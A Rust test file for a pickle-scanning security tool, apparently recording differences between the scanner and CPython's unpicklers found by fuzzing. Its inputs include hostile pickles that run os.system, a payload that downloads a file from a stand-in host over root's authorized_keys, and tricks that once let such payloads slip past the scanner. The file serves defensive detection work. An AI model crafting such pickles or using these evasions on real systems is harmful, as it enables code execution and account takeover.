//! One test per mismatch the differential fuzzer (`fuzz/differential/run.py`)
//! found between aisec's machine and CPython's unpicklers, with the byte
//! strings it found (or the smallest form of them). CPython's behaviour is
//! stated in each test; `fuzz/differential/RESULTS.md` lists them all.

#![allow(clippy::unwrap_used, clippy::print_stdout, unreachable_pub)] // Tests may unwrap and print.

use aisec_core::{Location, Severity};
use aisec_pickle::machine::trace_pickle;
use aisec_pickle::{scan_pickle, Limits, PickleReport, Policy};

fn scan(data: &[u8]) -> PickleReport {
    scan_pickle(
        data,
        &Location::path("d.pkl"),
        &Policy::default(),
        &Limits::default(),
    )
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|c| format!("{c:02x}")).collect()
}

/// The literal value the machine pushes for `op` + `line` + newline.
fn literal(op: u8, line: &[u8]) -> Result<Option<String>, String> {
    let mut d = vec![op];
    d.extend_from_slice(line);
    d.extend_from_slice(b"\n.");
    let t = trace_pickle(&d, &Limits::default(), false);
    match t.end {
        Ok(_) => Ok(t.steps[0].value.clone()),
        Err((_, m)) => Err(m),
    }
}

#[test]
fn unicode_escapes_only_after_an_odd_run_of_backslashes() {
    // CPython: raw-unicode-escape keeps `\\u0041` as written (even run).
    assert_eq!(
        literal(b'V', b"a\\\\u0041").unwrap().unwrap(),
        hex(b"a\\\\u0041")
    );
    assert_eq!(literal(b'V', b"a\\u0041").unwrap().unwrap(), hex(b"aA"));
    assert_eq!(
        literal(b'V', b"\\\\\\u0041").unwrap().unwrap(),
        hex(b"\\\\A")
    );
    // Found by the fuzzer: rejected before, loaded by CPython.
    assert!(literal(b'V', b"1\\\\u444U24").is_ok());
    // Latin-1 bytes are code points.
    assert_eq!(
        literal(b'V', b"\xe9").unwrap().unwrap(),
        hex("é".as_bytes())
    );
}

#[test]
fn unicode_surrogates_are_kept_and_out_of_range_is_refused() {
    // CPython keeps a lone surrogate (written here as surrogatepass UTF-8).
    assert_eq!(literal(b'V', b"\\ud800").unwrap().unwrap(), "eda080");
    // "\U00110000 out of range" in CPython.
    assert!(literal(b'V', b"\\U00110000").is_err());
    // Hex digits only: from_str_radix would take a sign.
    assert!(literal(b'V', b"\\u+041").is_err());
    assert!(literal(b'S', b"'\\x+1'").is_err());
    assert_eq!(literal(b'S', b"'\\x41'").unwrap().unwrap(), "41");
}

#[test]
fn long1_with_sign_extension_bytes_keeps_its_value() {
    // LONG1 of nine zero bytes is 0 to CPython; a tenth 0xff byte after a
    // negative eighth one is still -1.
    let mut d = vec![0x80, 2, 0x8a, 9];
    d.extend_from_slice(&[0; 9]);
    d.push(b'.');
    let t = trace_pickle(&d, &Limits::default(), false);
    assert_eq!(t.steps[1].value.as_deref(), Some("0"));
    let mut d = vec![0x80, 2, 0x8a, 10];
    d.extend_from_slice(&[0xff; 10]);
    d.push(b'.');
    let t = trace_pickle(&d, &Limits::default(), false);
    assert_eq!(t.steps[1].value.as_deref(), Some("-1"));
}

#[test]
fn float_text_that_either_cpython_unpickler_reads() {
    let bits = |f: f64| format!("{:016x}", f.to_bits());
    // C unpickler: the text ends at a NUL byte (found by the fuzzer: aisec
    // stopped here and missed the global the C unpickler imported next).
    assert_eq!(literal(b'F', b"1\x00x").unwrap().unwrap(), bits(1.0));
    // pure-Python unpickler (float()): whitespace and underscores.
    assert_eq!(literal(b'F', b" 1_0.5\r").unwrap().unwrap(), bits(10.5));
    assert!(literal(b'F', b"0x1p3").is_err());
    let evil = b"F1\x00x\ncos\nsystem\n(S'id'\ntR.";
    let r = scan(evil);
    assert!(r.malformed.is_none(), "{:?}", r.malformed);
    assert!(r.findings.iter().any(|f| f.severity == Severity::Critical));
}

#[test]
fn python2_names_follow_cpythons_whole_compat_table() {
    // fix_imports maps urllib.urlretrieve to urllib.request.urlretrieve
    // (a download to a path): judged by what it loads.
    let r = scan(b"curllib\nurlretrieve\n(S'http://x/p'\nS'/root/.ssh/authorized_keys'\ntR.");
    assert!(r.globals.iter().any(|g| g == "urllib.request.urlretrieve"));
    assert!(
        r.findings.iter().any(|f| f.severity == Severity::Critical),
        "{:?}",
        r.findings
    );
    let r = scan(b"cBaseHTTPServer\nHTTPServer\n.");
    assert!(r.globals.iter().any(|g| g == "http.server.HTTPServer"));
}

/// PROTO 4, a FRAME of 6 bytes ending inside GLOBAL's module line, then
/// `os\nsystem\n(S'id'\ntR.`: `pickle.loads` imports `torchos.system`, the
/// C unpickler over `io.BytesIO` (torch.load of a zip checkpoint) drops the
/// frame's rest and imports `os.system` (checked with CPython 3.11.7).
fn straddling() -> Vec<u8> {
    let frame = b"ctorch";
    let mut d = vec![0x80, 4, 0x95];
    d.extend_from_slice(&(frame.len() as u64).to_le_bytes());
    d.extend_from_slice(frame);
    d.extend_from_slice(b"os\nsystem\n(S'id'\ntR.");
    d
}

#[test]
fn frame_straddle_is_read_both_ways() {
    let d = straddling();
    let t = trace_pickle(&d, &Limits::default(), false);
    assert_eq!(t.globals, vec!["torchos.system".to_string()]);
    let f = trace_pickle(&d, &Limits::default(), true);
    assert_eq!(f.globals, vec!["os.system".to_string()]);
    assert_eq!(f.end, Ok(d.len()));
    let r = scan(&d);
    assert!(r
        .findings
        .iter()
        .any(|f| f.rule_id == "AISEC-PICKLE-016" && f.location.offset == Some(11)));
    let crit = r
        .findings
        .iter()
        .find(|f| f.rule_id == "AISEC-PICKLE-001")
        .expect("os.system call from the file reading");
    assert!(crit.evidence.starts_with("[if read from a file object]"));
    assert!(r.globals.iter().any(|g| g == "os.system"));
}

#[test]
fn frames_that_end_at_opcode_boundaries_are_not_straddles() {
    // What CPython's framer writes: every opcode inside one frame.
    let body = b"\x8c\x02os\x8c\x06system\x93.";
    let mut d = vec![0x80, 4, 0x95];
    d.extend_from_slice(&(body.len() as u64).to_le_bytes());
    d.extend_from_slice(body);
    let r = scan(&d);
    assert!(r.findings.iter().all(|f| f.rule_id != "AISEC-PICKLE-016"));
    // A frame inside a frame that the held bytes cover is read in place.
    let f = trace_pickle(&d, &Limits::default(), true);
    assert_eq!(f.end, Ok(d.len()));
}

#[test]
fn pickles_without_proto_may_start_with_any_opcode() {
    // CPython loads protocol 4 opcodes without a PROTO header; this file
    // was "not a pickle" to aisec (a low suffix finding) and ran
    // posix.system under pickle.load.
    let d = b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";
    assert!(aisec_pickle::looks_like_pickle(d));
    assert!(aisec_pickle::looks_like_pickle(b"\x88."));
    assert!(aisec_pickle::looks_like_pickle(
        b"\x95\x02\x00\x00\x00\x00\x00\x00\x00N."
    ));
    assert!(!aisec_pickle::looks_like_pickle(b"\x8c\x05pos"));
    assert!(!aisec_pickle::looks_like_pickle(b"\x93NUMPY"));
    let r = scan(d);
    assert!(r.findings.iter().any(|f| f.severity == Severity::Critical));
}

#[test]
fn bytes_payloads_across_a_frame_end_are_read_on_by_every_reader() {
    // Found by the fuzzer (seed 2): SHORT_BINBYTES whose 10 bytes run 4 past
    // the frame. The C unpickler over io.BytesIO loads it: bytes payloads
    // are copied with _Unpickler_ReadInto (buffer rest, then the file).
    let d: Vec<u8> = (0..124)
        .step_by(2)
        .map(|i| {
            u8::from_str_radix(
                &"8004952a000000000000008c086461746574696d65948c086461746574696d658c086461746574696d65949394430a07ea0c02010203000000859452942e"[i..i + 2],
                16,
            )
            .unwrap()
        })
        .collect();
    for file_frames in [false, true] {
        let t = trace_pickle(&d, &Limits::default(), file_frames);
        assert_eq!(t.end, Ok(d.len()), "file_frames={file_frames}");
    }
    assert!(scan(&d)
        .findings
        .iter()
        .all(|f| f.rule_id != "AISEC-PICKLE-016"));
}
